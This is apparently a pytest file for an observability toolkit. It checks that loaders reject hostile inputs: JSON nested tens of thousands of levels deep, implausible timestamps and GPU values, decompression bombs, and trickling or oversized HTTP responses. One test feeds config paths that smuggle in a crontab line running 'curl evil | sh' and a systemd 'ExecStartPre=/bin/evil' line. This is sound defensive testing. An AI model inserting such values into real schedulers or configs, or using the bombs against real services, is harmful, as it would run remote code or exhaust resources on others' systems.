    "otlp-deep-line": ("otlp", ".jsonl", _otlp() + "\n" + "[" * 100_000 + "\n", 1, 1, "nested deeper than 64"),
    "otlp-end-1e300": ("otlp", ".jsonl", _otlp() + "\n" + _otlp(endTimeUnixNano=1e300) + "\n", 1, 1,
                        "start or end time outside the years 1990–2200"),
    "otlp-status-huge": ("otlp", ".jsonl", _otlp() + "\n" + _otlp(attributes=[
        {"key": "http.response.status_code", "value": {"intValue": "99999999999"}}]) + "\n", 1, 1,
        "status code 99999999999 is not an HTTP or gRPC code"),
    "otlp-start-year-9999": ("otlp", ".jsonl", _otlp() + "\n" + _otlp(
        startTimeUnixNano="253402300799000000000", endTimeUnixNano="253402300799000000001") + "\n", 1, 1,
        "outside the years 1990–2200"),
    "otlp-spans-not-a-list": ("otlp", ".jsonl", _otlp() + "\n" + json.dumps(
        {"resourceSpans": [{"scopeSpans": [{"spans": 5}]}]}) + "\n", 1, 1, "spans is not a list of objects"),
    "query-range-ts-1e300": ("prometheus_json", ".json", _qr({"metric": {"__name__": "up"}, "values": [
        [_T, "1"], [1e300, "1"], [_T + 15, "1"]]}), 2, 1, "outside the years 1990–2200"),
    "query-range-year-1": ("prometheus_json", ".json", _qr({"metric": {"__name__": "up"}, "values": [
        [_T, "1"], [-62135596800, "1"]]}), 1, 1, "outside the years 1990–2200"),
    "query-range-year-3000": ("prometheus_json", ".json", _qr({"metric": {"__name__": "up"}, "values": [
        [_T, "1"], [32503680000, "1"]]}), 1, 1, "outside the years 1990–2200"),
    "query-range-duplicate-ts": ("prometheus_json", ".json", _qr({"metric": {"__name__": "up"}, "values": [
        [_T, "1"], [_T, "2"], [_T + 15, "1"]]}), 2, 1, "duplicate timestamp"),
    "query-range-null-label": ("prometheus_json", ".json", _qr(
        {"metric": {"__name__": "up", "job": None}, "values": [[_T, "1"]]},
        {"metric": {"__name__": "up", "job": "a"}, "values": [[_T, "1"]]}), 1, 1, "label 'job' is not a string"),
    "query-range-object-label": ("prometheus_json", ".json", _qr(
        {"metric": {"__name__": "up", "job": {"a": 1}}, "values": [[_T, "1"]]},
        {"metric": {"__name__": "up", "job": "a"}, "values": [[_T, "1"]]}), 1, 1, "label 'job' is not a string"),
    "scrape-ts-int64-max": ("prometheus_text", ".prom", "up 1 1763805600000\nup{a=\"b\"} 1 9223372036854775807\n",
                            1, 1, "outside the years 1990–2200"),
    "gpu-utilization-150": ("nvidia_smi", ".csv", _smi(_SMI_OK, "2025/11/22 10:00:01.000, 0, 150 %, 1000 MiB, "
                                                      "8192 MiB, 60"), 1, 1, "outside the physical range"),
    "gpu-memory-negative": ("nvidia_smi", ".csv", _smi(_SMI_OK, "2025/11/22 10:00:01.000, 0, 50 %, -5 MiB, "
                                                      "8192 MiB, 60"), 1, 1, "outside the physical range"),
    "gpu-temperature-300-below": ("nvidia_smi", ".csv", _smi(_SMI_OK, "2025/11/22 10:00:01.000, 0, 50 %, 10 MiB, "
                                                            "8192 MiB, -300"), 1, 1, "outside the physical range"),
    "gpu-used-over-total": ("nvidia_smi", ".csv", _smi(_SMI_OK, "2025/11/22 10:00:01.000, 0, 50 %, 9000 MiB, "
                                                      "8192 MiB, 60"), 1, 1, "used"),
    "gpu-year-9999": ("nvidia_smi", ".csv", _smi(_SMI_OK, "9999/11/22 10:00:01.000, 0, 50 %, 10 MiB, 8192 MiB, 60"),
                      1, 1, "outside the years 1990–2200"),
    "gpu-four-years-later": ("nvidia_smi", ".csv", _smi(*[
        f"2025/11/22 10:{i // 60:02d}:{i % 60:02d}.000, 0, 50 %, 10 MiB, 8192 MiB, 60" for i in range(150)],
        "2029/11/22 10:00:00.000, 0, 50 %, 10 MiB, 8192 MiB, 60"), 150, 1, "far outside the rest"),
    "dmon-utilization-150": ("dmon", ".txt", "# gpu    pwr  gtemp  mtemp     sm    mem\n"
                             "# Idx      W      C      C      %      %\n"
                             "    0     69     41     47     10      0\n    0     69     41     47    150      0\n",
                             1, 1, "outside the physical range"),
}


def _load_hostile(loader: str, path: Path, q: Quarantine) -> int:
    from obskit.load.gpu import load_dmon, load_nvidia_smi
    from obskit.load.otel import load_otlp_spans
    from obskit.load.prometheus_api import load_prometheus_json

    if loader == "requests":
        return load_requests(path, columns=MAP, status_convention="http", quarantine=q).height
    if loader == "otlp":
        return load_otlp_spans(path, quarantine=q).height
    if loader == "prometheus_json":
        return load_prometheus_json(path, quarantine=q).height
    if loader == "prometheus_text":
        return load_prometheus_text(path, quarantine=q).height
    if loader == "nvidia_smi":
        return load_nvidia_smi(path, quarantine=q).height
    return load_dmon(path, quarantine=q, start=datetime(2025, 11, 22, 10, tzinfo=UTC)).height


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_record_is_one_counted_rejection(case: str, tmp_path: Path) -> None:
    loader, suffix, content, loaded, rejected, reason = HOSTILE[case]
    path = tmp_path / f"{case}{suffix}"
    path.write_text(content, encoding="utf-8")
    q = Quarantine()
    assert _load_hostile(loader, path, q) == loaded, q.frame()
    assert q.count == rejected, q.frame()
    assert reason in " ".join(q.frame()["reason"].to_list()), q.frame()


def test_a_deep_query_range_file_is_a_parse_error_naming_it(tmp_path: Path) -> None:
    from obskit.errors import ParseError
    from obskit.load.prometheus_api import load_prometheus_json

    path = tmp_path / "deep.json"
    path.write_text('{"status": "success", "data": ' + "[" * 200_000 + "]" * 200_000 + "}")
    with pytest.raises(ParseError, match=r"deep\.json: invalid JSON: nested deeper than 64 levels"):
        load_prometheus_json(path)


def test_a_deep_trace_event_is_rejected_and_the_others_load(tmp_path: Path) -> None:
    from obskit.load.traces import load_torch_trace

    ev = {"ph": "X", "cat": "kernel", "name": "k", "pid": 0, "tid": 7, "ts": 1_763_805_600_000_000, "dur": 5,
          "args": {"device": 0, "stream": 7}}
    deep = '{"ph": "X", "args": ' + '{"a": ' * 5_000 + "1" + "}" * 5_000 + "}"
    path = tmp_path / "trace.json"
    path.write_text('{"traceEvents": [' + json.dumps(ev) + ", " + deep + ", " + json.dumps(ev) + "]}")
    q = Quarantine()
    assert load_torch_trace(path, quarantine=q).height == 2
    assert q.frame()["reason"].to_list() == ["traceEvents[1]: nested deeper than 64 levels"]


# ----------------------------------------------------------------------------- URLs: a deadline and a size


@pytest.fixture()
def slow_server() -> Iterator[str]:
    """Loopback server: /trickle sends a byte every 0.2 s (each read is quick), /big sends 3 MB."""
    import time

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            if self.path.startswith("/big"):
                self.wfile.write(b"x" * 3_000_000)
                return
            for _ in range(60):  # at most 12 s, then it ends by itself
                try:
                    self.wfile.write(b"x")
                    self.wfile.flush()
                except OSError:
                    return
                time.sleep(0.2)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()


def test_a_trickling_server_meets_the_deadline_not_a_per_read_timeout(slow_server: str,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    import time

    import obskit.limits
    from obskit.errors import SourceError
    from obskit.load._sources import resolve

    monkeypatch.setattr(obskit.limits, "URL_DEADLINE_S", 1.0)
    t0 = time.monotonic()
    with pytest.raises(SourceError, match="not complete after"):
        resolve(f"{slow_server}/trickle.jsonl", suffixes=(".jsonl",))
    assert time.monotonic() - t0 < 8  # the socket timeout alone would never end it


def test_a_response_over_the_size_limit_is_refused(slow_server: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from obskit.errors import SourceError
    from obskit.load._sources import resolve

    monkeypatch.setattr("obskit.limits.URL_MAX_BYTES", 1 << 20)
    with pytest.raises(SourceError, match="larger than 1 MiB"):
        resolve(f"{slow_server}/big.jsonl", suffixes=(".jsonl",))


# ----------------------------------------------------------------------------- staging, schedule, export, notify


def test_staging_sees_a_same_size_rewrite_and_rebuilds_broken_metadata(tmp_path: Path) -> None:
    import os

    from obskit.load.registry import SourceConfig
    from obskit.scale.staging import stage_requests

    log = tmp_path / "day.jsonl"
    log.write_text("".join(json.dumps(_row(i, latency_ms=10.0)) + "\n" for i in range(50)))
    src = SourceConfig("requests", "requests", {"path": str(log), "columns": MAP, "status_convention": "http"})
    first = stage_requests(src, tmp_path / "stage")
    st = log.stat()
    log.write_text("".join(json.dumps(_row(i, latency_ms=99.0)) + "\n" for i in range(50)))  # same size
    os.utime(log, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert log.stat().st_size == st.st_size
    second = stage_requests(src, tmp_path / "stage")
    assert second.converted == 1
    assert pl.read_parquet(second.files)["latency_ms"].unique().to_list() == [99.0]
    metas = list((tmp_path / "stage").rglob("*.json"))
    assert metas and first.converted == 1
    for meta in metas:
        meta.write_text('{"rows": 5')  # an interrupted write
    third = stage_requests(src, tmp_path / "stage")
    assert third.converted == 1 and third.rows == 50  # the current file's metadata, rebuilt


@pytest.mark.parametrize(("args", "needle"), [
    (["--config", "/tmp/a\n* * * * * curl evil | sh\n.toml"], "holds a control character"),
    (["--config", "/tmp/a%b.toml"], "holds a control character, '%' or '$'"),
    (["--systemd", "--config", "/tmp/a\nExecStartPre=/bin/evil\n.toml"], "holds a control character"),
    (["--last", "a while"], "--last"),
])
def test_schedule_refuses_what_a_crontab_or_unit_cannot_carry(args: list[str], needle: str,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["schedule", *args]) == 2
    captured = capsys.readouterr()
    assert needle in captured.err and captured.err.count("\n") == 1
    assert "evil" not in captured.out


def test_alerts_export_keeps_a_rules_match(tmp_path: Path, day: Path) -> None:
    from obskit.alerts.export import prometheus_export
    from obskit.config import load_config

    cfg = _config(day, tmp_path, lambda t: t + (
        '\n[[alerts]]\nname = "canary-errors"\nsignal = "error_rate"\ncomparison = ">"\nthreshold = 0.05\n'
        'window = "5m"\nby = ["model_version"]\nmatch = { model_version = "v1.5.0" }\n'))
    text = prometheus_export(load_config(cfg).alerts, mapping=load_config(cfg).promql).yaml
    block = text[text.index('alert: "canary-errors"'):]
    assert block.split("\n")[1].strip() == 'expr: "obskit:error_rate:by_version:5m{version=\\"v1.5.0\\"} > 0.05"'



@pytest.mark.parametrize("url", ["ftp://hooks.example/x", "http://", "not a url", "http://h:99999/x"])
def test_a_bad_webhook_is_refused_before_the_report_runs(url: str, samples_dir: Path, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("OBSKIT_ALERT_WEBHOOK", url)
    assert main(["report", "--config", str(samples_dir / "obskit.toml"), "--out", str(tmp_path / "r"),
                 "--notify", "--fail-on-alert"]) == 2
    err = capsys.readouterr().err
    assert "webhook url must be an http(s) URL with a host" in err and err.count("\n") == 1
    assert not (tmp_path / "r").exists()  # refused before the run


# ----------------------------------------------------------------------------- request logs: documented value rules


def test_a_percent_confidence_is_read_as_a_share(tmp_path: Path) -> None:
    path = tmp_path / "log.jsonl"
    path.write_bytes(_jsonl([_row(0, confidence="90%"), _row(1, confidence=" 12.5 % "), _row(2, confidence="0.5")]))
    q = Quarantine()
    df = load_requests(path, columns=MAP, status_convention="http", quarantine=q)
    assert q.count == 0 and df["confidence"].to_list() == pytest.approx([0.9, 0.125, 0.5])


@pytest.mark.parametrize("codec", ["plain", "gzip"])
def test_a_byte_order_mark_is_stripped(codec: str, tmp_path: Path) -> None:
    data = b"\xef\xbb\xbf" + _jsonl([_row(i) for i in range(3)])
    path = tmp_path / ("log.jsonl" if codec == "plain" else "log.jsonl.gz")
    path.write_bytes(data if codec == "plain" else gzip.compress(data))
    q = Quarantine()
    assert load_requests(path, columns=MAP, status_convention="http", quarantine=q).height == 3
    assert q.count == 0


def test_a_csv_byte_order_mark_is_stripped(tmp_path: Path) -> None:
    path = tmp_path / "log.csv"
    path.write_bytes(b"\xef\xbb\xbf" + CSV_HEAD + b"2026-11-22T10:00:00Z,a,m,1,12.5,200\n")
    q = Quarantine()
    assert load_requests(path, columns=MAP, status_convention="http", quarantine=q).height == 1 and q.count == 0


def test_a_duplicate_key_is_rejected_on_the_fast_and_the_slow_path(tmp_path: Path) -> None:
    dup = ('{"ts": "2026-11-22T10:00:01Z", "id": "r1", "model": "m", "model_version": "1", '
           '"latency_ms": 5, "latency_ms": 7, "code": 200}')
    fast = tmp_path / "fast.jsonl"
    fast.write_bytes(_jsonl([_row(0), dup, _row(2)]))
    slow = tmp_path / "slow.jsonl"
    slow.write_bytes(_jsonl([_row(0), dup, '{"broken', _row(2)]))
    for path, rejected in ((fast, 1), (slow, 2)):
        q = Quarantine()
        df = load_requests(path, columns=MAP, status_convention="http", quarantine=q)
        assert df["request_id"].to_list() == ["r0", "r2"] and q.count == rejected
        assert "duplicate key 'latency_ms' in the record" in q.frame()["reason"].to_list()


def test_a_nested_key_reused_in_another_object_is_not_a_duplicate(tmp_path: Path) -> None:
    path = tmp_path / "log.jsonl"
    path.write_bytes(_jsonl([_row(0, meta={"id": 1}, extra={"id": 2})]))
    q = Quarantine()
    assert load_requests(path, columns=MAP, status_convention="http", quarantine=q).height == 1 and q.count == 0


@pytest.mark.parametrize(("ts", "reason"), [
    ("2026-10-25T02:30:00", "timestamp: ambiguous local time (repeated by a DST change in Europe/Berlin)"),
    ("2026-03-29T02:30:00", "timestamp: non-existent local time (skipped by a DST change in Europe/Berlin)"),
])
def test_local_times_a_dst_change_repeats_or_skips_are_rejected(ts: str, reason: str, tmp_path: Path) -> None:
    path = tmp_path / "log.jsonl"
    path.write_bytes(_jsonl([_row(0, ts="2026-10-25T01:30:00"), _row(1, ts=ts), _row(2, ts="2026-10-25T04:30:00")]))
    q = Quarantine()
    df = load_requests(path, columns=MAP, status_convention="http", timezone="Europe/Berlin", quarantine=q)
    assert df.height == 2 and q.count == 1 and q.frame()["reason"][0] == reason
    assert df["timestamp"].dt.hour().to_list() == [23, 3]  # 01:30 CEST (+2) and 04:30 CET (+1) in UTC


def test_a_field_that_is_an_object_here_and_a_list_there_loads(tmp_path: Path) -> None:
    path = tmp_path / "log.jsonl"
    path.write_bytes(_jsonl([_row(0, meta={"a": 1}), _row(1, meta=[1, 2]), "{bad", _row(2, meta=None)]))
    q = Quarantine()
    df = load_requests(path, columns=MAP, status_convention="http", quarantine=q)
    assert df.height == 3 and q.count == 1 and "invalid JSON" in q.frame()["reason"][0]
    assert df["meta"].to_list() == ['{"a": 1}', "[1, 2]", None]


def test_a_header_only_feedback_csv_is_no_correction(tmp_path: Path) -> None:
    from obskit.load.logs import load_feedback

    path = tmp_path / "feedback.csv"
    path.write_text("request_id,corrected_label,corrected_at\n")
    fb = load_feedback(path)
    assert fb.height == 0 and fb.columns == ["request_id", "corrected_label", "corrected_at"]


def test_a_truncated_zstd_log_is_named_on_the_problems(tmp_path: Path) -> None:
    rows = [_row(i) for i in range(3000)]
    data = zstandard.ZstdCompressor().compress(_jsonl(rows))
    path = tmp_path / "log.jsonl.zst"
    path.write_bytes(data[: len(data) * 2 // 3])
    q = Quarantine()
    df = load_requests(path, columns=MAP, status_convention="http", quarantine=q)
    assert df.height + q.count < 3000  # what zstd lost after the cut is gone, and said so:
    assert [Path(name).name for name, _ in q.stats.skipped] == ["log.jsonl.zst"]
    assert "everything after is lost" in q.stats.skipped[0][1]


def test_a_categorical_feature_with_a_value_per_row_is_skipped_with_its_reason(day: Path, tmp_path: Path) -> None:
    from obskit.report import drift as report_drift

    cfg = _config(day, tmp_path, lambda t: t)
    ref = cfg.parent / "reference.parquet"
    pl.read_parquet(ref).with_columns(pl.format("c{}", pl.int_range(pl.len())).alias("region")).write_parquet(ref)
    rep = open_report(str(cfg), output_dir=str(tmp_path / "out"))
    sec = report_drift.features(rep)
    assert sec.status != "skipped"
    assert "region (a distinct value in most reference rows (an id or free text?))" in repr(sec.items)


@pytest.mark.parametrize("codec", ["gzip", "zstd"])
def test_a_decompression_bomb_is_refused_before_it_is_held(codec: str, tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    from obskit.errors import SourceError

    monkeypatch.setattr("obskit.limits.EXPANSION_FREE_BYTES", 1 << 20)  # a small bomb proves the rule
    zeros = b"\n" * (8 << 20)
    data = gzip.compress(zeros) if codec == "gzip" else zstandard.ZstdCompressor().compress(zeros)
    path = tmp_path / f"bomb.jsonl.{'gz' if codec == 'gzip' else 'zst'}"
    path.write_bytes(data)
    with pytest.raises(SourceError, match=rf"{codec} data expands more than 1000x its [\d,]+ stored bytes"):
        load_requests(path)


# ----------------------------------------------------------------------------- review: data that ran a report down


def _health_sections(cfg: Path, out: Path) -> dict[str, Any]:
    rep = open_report(str(cfg), output_dir=str(out))
    for fn in (health.alerts, health.summary, health.traffic, health.latency, health.errors, health.gpu,
               health.drift, health.business, health.versions):
        fn(rep)
    rep.finish()
    return dict(json.loads((out / "summary.json").read_text()))


def test_a_version_switch_without_overlap_is_said_not_fatal(day: Path, tmp_path: Path) -> None:
    cfg = _config(day, tmp_path, lambda t: t)
    log = cfg.parent / "requests.jsonl.gz"
    with gzip.open(log, "rt") as fh:
        rows = [json.loads(line) for line in fh]
    for row in rows:  # v1 until noon, v2 after: the two never serve at the same time
        row["model_version"] = "v1" if row["ts"] < "2026-11-22T12" else "v2"
    with gzip.open(log, "wt") as fh:
        fh.write("".join(json.dumps(r) + "\n" for r in rows))
    rep = open_report(str(cfg), output_dir=str(tmp_path / "out"))
    sec = health.versions(rep)
    assert sec.status == "ok" and any("are not compared side by side" in n for n in sec.notes)


def test_a_reference_column_of_nulls_and_a_text_feature_are_skipped_with_reasons(day: Path, tmp_path: Path) -> None:
    cfg = _config(day, tmp_path, lambda t: t)
    ref = cfg.parent / "reference.parquet"
    pl.read_parquet(ref).with_columns(pl.lit(None, pl.Float64).alias("contrast")).write_parquet(ref)
    log = cfg.parent / "requests.jsonl.gz"
    with gzip.open(log, "rt") as fh:
        rows = [json.loads(line) for line in fh]
    for row in rows:
        row["width"] = f"{row['width']}px"  # text where training has numbers
    with gzip.open(log, "wt") as fh:
        fh.write("".join(json.dumps(r) + "\n" for r in rows))
    summary = _health_sections(cfg, tmp_path / "out")
    drift = next(s for s in summary["figures"]["sections"] if s["title"] == "Drift against the training set")
    assert drift["status"] != "skipped" and summary["status"] != "ok"
    rep = open_report(str(cfg), output_dir=str(tmp_path / "out2"))
    from obskit.report import drift as report_drift

    notes = " ".join(report_drift.features(rep).notes)
    assert "width (the training set holds numbers and the requests text)" in notes
    assert "contrast (absent, or only nulls" in notes


def test_a_csv_field_longer_than_128_kib_loads(tmp_path: Path) -> None:
    path = tmp_path / "log.csv"
    path.write_bytes(b"ts,id,model,model_version,latency_ms,code,error\n"
                     b"2026-11-22T10:00:00Z,a,m,1,12.5,500," + b"E" * 200_000 + b"\n"
                     b"2026-11-22T10:00:01Z,b,m,1,3,200,\n")
    q = Quarantine()
    df = load_requests(path, columns=MAP, status_convention="http", quarantine=q)
    assert df.height == 2 and q.count == 0 and len(df["error"][0]) == 200_000


@pytest.mark.parametrize(("code", "loaded"), [(200, 1), (-1, 0), (0, 0), (1000, 0), (404.9, 0), ("2e2", 1)])
def test_http_codes_no_protocol_has_are_rejected(code: object, loaded: int, tmp_path: Path) -> None:
    path = tmp_path / "log.jsonl"
    path.write_bytes(_jsonl([_row(1, code=code)]))
    q = Quarantine()
    assert load_requests(path, columns=MAP, status_convention="http", quarantine=q).height == loaded
    assert q.count == 1 - loaded


def test_outputs_that_are_devices_are_written_through_not_replaced(tmp_path: Path) -> None:
    import os

    from obskit._atomic import atomic_write_text

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    reader = threading.Thread(target=lambda: fifo.read_bytes(), daemon=True)
    reader.start()
    atomic_write_text(fifo, "hello")
    reader.join(timeout=10)
    assert fifo.is_fifo()  # still a pipe, not a regular file


FAR = 3000  # lines: well past the 64 KiB head the fast reader takes its schema from


@pytest.mark.parametrize("late, check", [
    ({"region": "eu"}, lambda df, q: df["region"].drop_nulls().to_list() == ["eu"] and q.count == 0),
    ('{"ts": "2026-11-22T12:00:00Z", "id": "late", "model": "m", "model_version": "1", "latency_ms": 5, '
     '"latency_ms": 7, "code": 200, "confidence": 0.9}',
     lambda df, q: "late" not in df["request_id"].to_list() and "duplicate key 'latency_ms' in the record"
     in q.frame()["reason"].to_list()),
    ({"note": 'a "quoted": text, null'},
     lambda df, q: df.filter(pl.col("request_id") == f"r{FAR}")["note"].to_list() == ['a "quoted": text, null']),
    ({"confidence": None, "spare": None},
     lambda df, q: df.height == FAR + 1 and q.count == 0 and "spare" in df.columns),
], ids=["field-first-seen-late", "duplicate-key-late", "key-token-inside-a-string", "explicit-nulls"])
def test_the_fast_reader_checks_every_line_not_only_the_head(late: Any, check: Any, tmp_path: Path) -> None:
    """The flat fast path reads with the head's schema; a line it would misread must be caught."""
    rows: list[Any] = [_row(i, note="plain") for i in range(FAR)]
    rows.append(late if isinstance(late, str) else _row(FAR, **{"note": "plain", **late}))
    path = tmp_path / "log.jsonl"
    path.write_bytes(_jsonl(rows))
    q = Quarantine()
    df = load_requests(path, columns=MAP, status_convention="http", quarantine=q)
    assert check(df, q)


def test_a_field_null_in_the_head_keeps_the_type_of_its_later_values(tmp_path: Path) -> None:
    rows = [_row(i, score=None) for i in range(FAR)] + [_row(FAR, score=0.25)]
    path = tmp_path / "log.jsonl"
    path.write_bytes(_jsonl(rows))
    df = load_requests(path, columns=MAP, status_convention="http", quarantine=Quarantine())
    assert df.schema["score"] == pl.Float64 and df["score"].drop_nulls().to_list() == [0.25]


def test_epoch_nanoseconds_under_a_milliseconds_format_are_implausible_not_unparseable(tmp_path: Path) -> None:
    rows = [{"ts": 1763805600123456789, "id": "a", "code": 200, "latency_ms": 1.0},
            {"ts": 1763805600123, "id": "b", "code": 200, "latency_ms": 1.0}]
    path = tmp_path / "ns.jsonl"
    path.write_bytes(_jsonl(rows))
    q = Quarantine()
    df = load_requests(path, columns={"timestamp": "ts", "request_id": "id", "status_code": "code"},
                       timestamp_format="ms", quarantine=q, defaults={"model": "m", "model_version": "v"})
    assert df.height == 1
    assert q.frame()["reason"].to_list() == ["timestamp: outside the years 1990–2200"]


def test_check_names_the_file_of_each_rejected_line_in_a_glob(tmp_path: Path) -> None:
    from obskit.check import check_sources, format_checks

    (tmp_path / "a.jsonl").write_bytes(_jsonl([_row(i) for i in range(5)]) + b"not json\n")
    (tmp_path / "b.jsonl").write_bytes(b"{broken\n" + _jsonl([_row(i) for i in range(5, 10)]))
    cfg = tmp_path / "obskit.toml"
    cfg.write_text(f'[sources.requests]\npath = "{tmp_path}/*.jsonl"\n[sources.requests.columns]\n'
                   'timestamp = "ts"\nrequest_id = "id"\nstatus_code = "code"\n')
    text = format_checks(check_sources(cfg), preview=False)
    assert "a.jsonl:6" in text and "b.jsonl:1" in text, text
